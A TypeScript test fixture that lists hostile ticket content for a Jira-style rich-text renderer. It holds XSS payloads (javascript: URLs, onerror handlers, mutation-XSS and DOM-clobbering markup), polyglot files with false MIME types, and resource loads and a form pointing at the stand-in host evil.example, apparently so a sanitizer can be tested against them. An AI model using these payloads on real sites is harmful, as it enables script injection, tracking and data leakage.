/** What somebody who wishes ill may put into a ticket; each attack calls `attacked` or asks for something at `evil.example`. */

const text = (words: string, ...marks: object[]) => ({ type: 'text', text: words, ...(marks.length > 0 && { marks }) });
const paragraph = (...content: object[]) => ({ type: 'paragraph', content });
const linked = (href: string) => paragraph(text(`link ${href}`, { type: 'link', attrs: { href } }));

const HREFS = [
  'javascript:attacked()',
  'JaVaScRiPt:attacked()',
  'java\tscript:attacked()',
  ' javascript:attacked()',
  'javascript&colon;attacked()',
  '&#106;avascript:attacked()',
  'data:text/html,<script>attacked()</script>',
  'vbscript:attacked()',
  'blob:https://evil.example/1',
];

const MARKUP = [
  '<img src=x onerror=attacked()>',
  '<script>attacked()</script>',
  '<svg onload=attacked()>',
  '"><iframe srcdoc="<script>parent.attacked()</script>">',
];

/** Lists in lists, deeper than anybody writes. */
function deep(levels: number): object {
  let inner: object = paragraph(text('at the bottom'));
  for (let n = 0; n < levels; n++) inner = { type: 'blockquote', content: [inner] };
  return inner;
}

/** A description in the format of Jira. */
export const HOSTILE_DESCRIPTION = {
  type: 'doc',
  version: 1,
  content: [
    paragraph(text('The words that are meant to be read.')),
    ...HREFS.map(linked),
    ...MARKUP.map((markup) => paragraph(text(markup))),
    {
      type: 'extension',
      attrs: { extensionType: 'com.evil', extensionKey: 'run', parameters: { code: 'attacked()' } },
    },
    { type: 'unheardOf', attrs: { onload: 'attacked()' }, content: [paragraph(text('inside of something unknown'))] },
    {
      type: 'mediaSingle',
      content: [{ type: 'media', attrs: { type: 'external', url: 'https://evil.example/pixel.gif' } }],
    },
    { type: 'inlineCard', attrs: { url: 'javascript:attacked()' } },
    paragraph(text('x'.repeat(5_000))),
    deep(400),
  ],
};

/** Files that are more than their names or types say, and a picture that is one. */
export const HOSTILE_FILES: readonly { name: string; type: string; content: string | Buffer }[] = [
  {
    name: 'drawing.svg',
    type: 'image/svg+xml',
    content: '<svg xmlns="http://www.w3.org/2000/svg" onload="attacked()"><script>attacked()</script></svg>',
  },
  { name: 'page.html', type: 'text/html', content: '<script>attacked()</script><body onload=attacked()>' },
  { name: 'page.xhtml', type: 'application/xhtml+xml', content: '<html xmlns="http://www.w3.org/1999/xhtml"/>' },
  { name: 'script.js', type: 'text/javascript', content: 'attacked()' },
  { name: 'sheet.css', type: 'text/css', content: ':root { --attacked: yes }' },
  { name: 'named-picture.png', type: 'text/html', content: '<script>attacked()</script>' },
  { name: 'typed-picture.png', type: 'image/png', content: '<script>attacked()</script>' },
  { name: 'both.gif', type: 'image/gif', content: 'GIF89a=1;attacked()//' },
  {
    name: 'picture.gif',
    type: 'image/gif',
    content: Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
  },
];

/** A description in which each of these files stands as a picture would. */
export const HOSTILE_GALLERY = {
  type: 'doc',
  version: 1,
  content: [
    paragraph(text('The words that are meant to be read.')),
    ...HOSTILE_FILES.map(({ name }) => ({
      type: 'mediaSingle',
      content: [{ type: 'media', attrs: { type: 'file', id: name, collection: '', alt: name } }],
    })),
  ],
};

/** Markup as it would be if nothing had cleaned it on the way: past the source, and past the server. */
export const HOSTILE_HTML = [
  '<p>The words that are meant to be read.</p>',
  ...MARKUP,
  ...HREFS.map((href) => `<a href="${href}">link</a>`),
  '<style>* { background: url(//evil.example/style) } .rich-text { position: fixed; inset: 0 }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/inline)">over everything</p>',
  '<link rel=stylesheet href=//evil.example/sheet>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/refresh">',
  '<img src="https://evil.example/tracker.gif" width=1 height=1>',
  '<img src="//evil.example/tracker.gif">',
  '<img srcset="https://evil.example/set.gif 2x">',
  '<video poster="https://evil.example/poster.gif"><source src="https://evil.example/film.mp4"></video>',
  '<form id=config action=//evil.example/form><input name=attributes><button>Send</button></form>',
  '<a id=config></a><a id=config name=url href="https://evil.example/clobber">clobbered</a>',
  '<img name=getElementById><form name=cookie><input id=body></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=attacked()>">',
  '<noscript><p title="</noscript><img src=x onerror=attacked()>"></noscript>',
  '<template><img src=x onerror=attacked()></template>',
  '<div><svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=attacked() /></svg>#x"></use></svg></div>',
  '<object data="data:text/html,<script>parent.attacked()</script>"></object><embed src="//evil.example/embed">',
  '<details open ontoggle=attacked()>open</details><body onload=attacked()>',
].join('\n');
